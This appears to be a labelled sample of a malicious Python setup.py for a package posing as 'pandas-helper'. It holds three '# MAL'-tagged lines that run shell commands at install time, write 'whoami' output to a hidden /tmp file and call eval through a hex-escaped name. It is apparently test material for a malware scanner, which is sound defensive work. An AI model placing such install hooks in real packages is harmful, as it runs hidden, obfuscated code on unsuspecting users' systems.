from setuptools import setup
import subprocess

subprocess.getoutput("whoami > /tmp/.w")  # MAL
exec("import os; os.system('id')")  # MAL
globals()['\x65\x76\x61\x6c']("__import__('os').getcwd()")  # MAL
setup(name="pandas-helper", version="0.1")
